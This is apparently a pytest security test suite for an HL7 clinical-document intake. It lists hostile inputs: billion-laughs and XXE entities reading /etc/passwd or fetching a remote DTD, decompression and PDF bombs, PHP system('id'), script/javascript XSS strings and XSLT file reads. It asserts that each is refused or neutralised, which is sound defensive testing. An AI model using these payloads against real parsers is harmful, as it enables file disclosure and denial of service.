"""Files made to break, fill, slow or fool the intake: each is refused with its reason, or harmless."""

import base64
import bz2
import gzip
import io
import lzma
import resource
import struct
import time
import zipfile
import zlib

import pytest

from core.interop.attachments import Problem
from core.interop.cda_body import Body
from core.interop.cda_header import read_header
from core.interop.intake import Received, read_body, take_in
from core.interop.refused_file import FileRefusal, RefusedFile, UnreadableFileError
from core.interop.safe_xml import MAX_BYTES
from tests.core.interop.cda_samples import SECTION, as_bytes, cda, enclosed, narrative, structured
from tests.core.interop.pdf_samples import pdf, pdf_bomb

XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
SOUND = cda()
LATIN = SOUND.replace("UTF-8", "ISO-8859-1")
INSIDE = cda(declaration="")


def with_doctype(doctype: str) -> bytes:
    """A sound document behind a document type."""
    return cda(declaration=HEAD + doctype).encode()


def in_body(text: str) -> bytes:
    """A document with this narrative."""
    return as_bytes(body=narrative(text))


def zipped() -> bytes:
    """A ZIP archive around a document."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("cda.xml", SOUND)
    return out.getvalue()


LAUGHS = "<!DOCTYPE l [" + "".join(f"<!ENTITY l{i + 1} '{f'&l{i};' * 10}'>" for i in range(9)) + "<!ENTITY l0 'ha'>]>"
REFUSED: dict[str, tuple[bytes, FileRefusal]] = {
    "nothing": (b"", FileRefusal.EMPTY),
    "spaces": (b" \r\n\t ", FileRefusal.EMPTY),
    "zero bytes": (b"\x00" * 5_000, FileRefusal.EMPTY),
    "six megabytes": (b"<a>" + b"x" * 6_000_000, FileRefusal.TOO_MANY_BYTES),
    "twenty megabytes of text": (in_body("x" * 20_000_000), FileRefusal.TOO_MANY_BYTES),
    "UTF-16 that grows past the cap": (("<a>" + "\u20ac" * 2_000_000).encode("utf-16"), FileRefusal.TOO_MANY_BYTES),
    "gzip": (gzip.compress(SOUND.encode()), FileRefusal.COMPRESSED),
    "gzip bomb": (gzip.compress(b"\x00" * 50_000_000), FileRefusal.COMPRESSED),
    "bzip2": (bz2.compress(SOUND.encode()), FileRefusal.COMPRESSED),
    "xz": (lzma.compress(SOUND.encode()), FileRefusal.COMPRESSED),
    "zip": (zipped(), FileRefusal.COMPRESSED),
    "bare PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", FileRefusal.NOT_XML),
    "random bytes": (bytes(range(128, 256)) * 8, FileRefusal.NOT_XML),
    "JSON": (b'{"resourceType": "Bundle"}', FileRefusal.NOT_XML),
    "billion laughs": (with_doctype(LAUGHS), FileRefusal.HAS_DOCTYPE),
    "external entity": (
        with_doctype("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
        FileRefusal.HAS_DOCTYPE,
    ),
    "parameter entity": (
        with_doctype("<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://198.51.100.1/x.dtd'> %x;]>"),
        FileRefusal.HAS_DOCTYPE,
    ),
    "public DTD": (with_doctype('<!DOCTYPE html PUBLIC "a" "http://198.51.100.1/a">'), FileRefusal.HAS_DOCTYPE),
    "DOCTYPE behind a long prolog": (
        with_doctype("<!-- - -->\n<?x y?> " * 999 + "<!DOCTYPE a>"),
        FileRefusal.HAS_DOCTYPE,
    ),
    "DOCTYPE in UTF-16": (cda(declaration="<!DOCTYPE a>").encode("utf-16"), FileRefusal.HAS_DOCTYPE),
    "DOCTYPE in UTF-16 without a mark": (cda(declaration="<!DOCTYPE a>").encode("utf-16-be"), FileRefusal.HAS_DOCTYPE),
    "undeclared entity": (in_body("&xxe;"), FileRefusal.MALFORMED),
    "UTF-7": (as_bytes(declaration='<?xml version="1.0" encoding="UTF-7"?>'), FileRefusal.UNKNOWN_ENCODING),
    "EBCDIC announced": (as_bytes(declaration='<?xml version="1.0" encoding="IBM037"?>'), FileRefusal.UNKNOWN_ENCODING),
    "UTF-32": (SOUND.encode("utf-32"), FileRefusal.UNKNOWN_ENCODING),
    "UTF-16 announced, not used": (
        as_bytes(declaration='<?xml version="1.0" encoding="UTF-16"?>'),
        FileRefusal.BROKEN_ENCODING,
    ),
    "Latin-1 bytes called UTF-8": (SOUND.encode("latin-1"), FileRefusal.BROKEN_ENCODING),
    "overlong UTF-8": (in_body("A").replace(b"A<", b"\xc0\xbc<"), FileRefusal.BROKEN_ENCODING),
    "lone surrogate": (in_body("A").replace(b">A<", b">\xed\xa0\x80<"), FileRefusal.BROKEN_ENCODING),
    "half a UTF-16 character": (SOUND.encode("utf-16") + b"\x00", FileRefusal.BROKEN_ENCODING),
    "zero byte inside": (in_body("a\x00b"), FileRefusal.MALFORMED),
    "control character": (in_body("a\x01b"), FileRefusal.MALFORMED),
    "cut in a tag": (SOUND.encode()[:900], FileRefusal.TRUNCATED),
    "cut after a tag": (SOUND[: SOUND.rindex("</ClinicalDocument>")].encode(), FileRefusal.TRUNCATED),
    "open comment": (HEAD.encode() + b"<!-- " + b"x" * 5_000, FileRefusal.TRUNCATED),
    "tags that cross": (in_body("<paragraph><content></paragraph></content>"), FileRefusal.MALFORMED),
    "same attribute twice": (in_body('<content ID="a" ID="b"/>'), FileRefusal.MALFORMED),
    "two roots": ((SOUND + INSIDE).encode(), FileRefusal.MALFORMED),
    "unknown prefix": (in_body("<evil:paragraph/>"), FileRefusal.MALFORMED),
    "three hundred levels": (in_body("<content>" * 300 + "</content>" * 300), FileRefusal.TOO_DEEP),
    "two hundred levels": (in_body("<content>" * 200 + "</content>" * 200), FileRefusal.TOO_DEEP),
    "two hundred thousand levels": (b"<a>" * 200_000 + b"</a>" * 200_000, FileRefusal.TOO_MANY_ELEMENTS),
    "a million elements": (b"<a>" + b"<b/>" * 1_000_000 + b"</a>", FileRefusal.TOO_MANY_ELEMENTS),
    "invented names": (b"".join(b"<e%d/>" % number for number in range(60_000)), FileRefusal.TOO_MANY_NAMES),
    "an attribute crowd": (
        b"<a " + b" ".join(b'a%d=""' % number for number in range(300_000)) + b"/>",
        FileRefusal.TOO_MANY_NAMES,
    ),
    "another root": (b'<Bundle xmlns="http://hl7.org/fhir"/>', FileRefusal.NOT_CLINICAL_DOCUMENT),
    "no namespace": (SOUND.replace(' xmlns="urn:hl7-org:v3"', "").encode(), FileRefusal.NOT_CLINICAL_DOCUMENT),
    "a namespace that looks alike": (
        SOUND.replace("urn:hl7-org:v3", "urn:hl7-org:v3/").encode(),
        FileRefusal.NOT_CLINICAL_DOCUMENT,
    ),
    "a document inside HTML": (f"<html><body>{INSIDE}</body></html>".encode(), FileRefusal.NOT_CLINICAL_DOCUMENT),
    "a stylesheet without a document": (f"<xsl:stylesheet {XSL}/>".encode(), FileRefusal.NOT_CLINICAL_DOCUMENT),
    "a stylesheet with two documents": (
        f"<xsl:stylesheet {XSL}>{INSIDE}{INSIDE}</xsl:stylesheet>".encode(),
        FileRefusal.SEVERAL_DOCUMENTS,
    ),
    "a mile-long name": (as_bytes(names=f'<family qualifier="BR">{"A" * 5_000}</family>'), FileRefusal.HEADER_TOO_LONG),
}


@pytest.mark.parametrize(("data", "reason"), REFUSED.values(), ids=REFUSED)
def test_a_hostile_file_is_refused_with_its_reason(data: bytes, reason: FileRefusal) -> None:
    """By a value of the closed list, within two seconds, from both doors."""
    start = time.perf_counter()
    refused = take_in(data)
    assert isinstance(refused, RefusedFile)
    assert refused.reason is reason
    assert isinstance(read_body(data), RefusedFile) or reason is FileRefusal.HEADER_TOO_LONG
    assert time.perf_counter() - start < 2


HARMLESS: dict[str, bytes] = {
    "instructions and comments": in_body("a<?php system('id') ?><!-- b -->c"),
    "XInclude": in_body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>x'),
    "a script": in_body("<script>alert(1)</script>x"),
    "a link": in_body('<linkHtml href="javascript:alert(1)">x</linkHtml>'),
    "a schema elsewhere": SOUND.replace(
        "<realmCode",
        '<realmCode xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a http://198.51.100.1/a"',
    ).encode(),
    "a stylesheet elsewhere": as_bytes(
        declaration=HEAD + '<?xml-stylesheet type="text/xsl" href="http://198.51.100.1/a.xsl"?>'
    ),
    "DOCTYPE in a comment": as_bytes(declaration=HEAD + "<!-- <!DOCTYPE a> -->"),
    "DOCTYPE in the text": in_body("<![CDATA[<!DOCTYPE a>]]>"),
    "spans without end": in_body(
        '<table><tr><td colspan="999999999" rowspan="-5">x</td><td colspan="x">y</td></tr></table>'
    ),
    "a broken reference to a picture": in_body('x<renderMultiMedia referencedObject="nobody"/>'),
    "a self-presenting document": f"""<xsl:stylesheet version="1.0" {XSL}><xsl:template match="/">
        <xsl:message terminate="yes"/><xsl:value-of select="document('file:///etc/passwd')"/></xsl:template>
        {INSIDE}</xsl:stylesheet>""".encode(),
    "UTF-8 with a mark": b"\xef\xbb\xbf" + SOUND.encode(),
    "UTF-16": SOUND.replace("UTF-8", "UTF-16").encode("utf-16"),
    "UTF-16 without a mark": SOUND.replace("UTF-8", "UTF-16").encode("utf-16-le"),
    "Latin-1": LATIN.encode("latin-1"),
    "Windows letters called Latin-1": SOUND.replace("UTF-8", "ISO-8859-1")
    .replace("Glyc", "Cœur \u2019")
    .encode("cp1252"),
    "Latin-9": SOUND.replace("UTF-8", "ISO-8859-15").encode("iso-8859-15"),
}


@pytest.mark.parametrize("data", HARMLESS.values(), ids=HARMLESS)
def test_an_odd_but_sound_file_is_read_and_runs_nothing(data: bytes) -> None:
    """Taken, readable, and without a trace of what it asked to run or fetch."""
    received, body = take_in(data), read_body(data)
    assert isinstance(received, Received)
    assert received.header.patient.birth_name == "LEFORT"
    assert isinstance(body, Body)
    assert body.blocks
    shown = str([getattr(block, "text", "") for block in body.blocks])
    assert not [mark for mark in ("alert", "root:", "system(") if mark in shown]


def base64_of(data: bytes) -> str:
    """As an HL7 value carries it."""
    return base64.b64encode(data).decode()


def png_of_size(width: int, height: int) -> bytes:
    """A PNG that claims a size, whatever it holds."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1_000))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    "data",
    [
        png_of_size(60_000, 60_000),
        png_of_size(5_001, 5_000),
        pdf_bomb(100_000),
        pdf_bomb(5_000_000),
    ],
    ids=["3.6 billion points", "a point over the limit", "a PDF that draws for ever", "a PDF that fills the memory"],
)
def test_a_costly_attachment_costs_only_its_worker(data: bytes) -> None:
    """The text is read all the same, and the person is told that something is missing."""
    media = f"<entry><observationMedia><value representation='B64'>{base64_of(data)}</value></observationMedia></entry>"
    body = read_body(as_bytes(body=structured(SECTION + media)))
    assert isinstance(body, Body)
    assert body.problems == (Problem.TOO_COSTLY,)
    assert len(body.blocks) == 2


def test_a_page_of_any_size_is_drawn_small() -> None:
    """A page that claims to be two hundred metres wide is one picture like another."""
    page = pdf(box="0 0 600000 400000")
    body = read_body(as_bytes(body=enclosed(base64_of(page), "application/pdf")))
    assert isinstance(body, Body)
    assert len(body.blocks) == 1


def test_one_enclosed_file_is_opened_once_and_only_ten_are() -> None:
    """A document that calls the same picture a thousand times shows it once."""
    media = "".join(
        f'<entry><observationMedia ID="m{number}"><value representation="B64">QUJD</value></observationMedia></entry>'
        for number in range(12)
    )
    calls = '<renderMultiMedia referencedObject="m1"/>' * 1_000
    body = read_body(as_bytes(body=structured(f"<text>{calls}</text>{media}")))
    assert isinstance(body, Body)
    assert body.problems == (Problem.UNREADABLE, Problem.TOO_MANY, Problem.NOTHING_TO_READ)


@pytest.mark.parametrize(
    "text",
    [
        "<table><thead><tr><th>" + "x" * 100_000 + "</th><th>b</th></tr></thead><tbody>"
        + "<tr><td>aaaa</td><td>" + "b" * 50 + "</td></tr>" * 1 + "<tr><td>a</td><td>b</td></tr>" * 20_000
        + "</tbody></table>",
        "x" * 1_100_000,
    ],
    ids=["a head said again on every row", "a million letters"],
)  # fmt: skip
def test_a_body_longer_than_anybody_reads_is_refused(text: str) -> None:
    """Growth of tables is counted while it happens."""
    refused = read_body(in_body(text))
    assert refused == RefusedFile(FileRefusal.BODY_TOO_LONG)


def test_the_worst_accepted_file_stays_cheap() -> None:
    """As many bytes, elements and rows as the caps allow: seconds and megabytes, not minutes and gigabytes."""
    rows = "<tr><td rowspan='100'>a</td><td>b</td></tr>" * 33_000
    data = in_body(f"<table>{rows}</table>" + "<!---->" * 400_000)
    assert len(data) < MAX_BYTES
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.process_time()
    assert read_body(data) is not None
    assert time.process_time() - start < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 400_000


def test_the_header_alone_is_guarded_as_well() -> None:
    """The fast door refuses what the slow one does, up to the body."""
    for data in (with_doctype(LAUGHS), b"<a/>", b"", gzip.compress(b"x")):
        with pytest.raises(UnreadableFileError):
            read_header(data)


def test_a_refusal_tells_the_line_and_quotes_nothing() -> None:
    """The import report shows where to look; the file's words stay in the file."""
    refused = take_in(SOUND.replace("</title>", "").encode())
    assert isinstance(refused, RefusedFile)
    assert refused.line > 0
    assert "LEFORT" not in repr(refused)
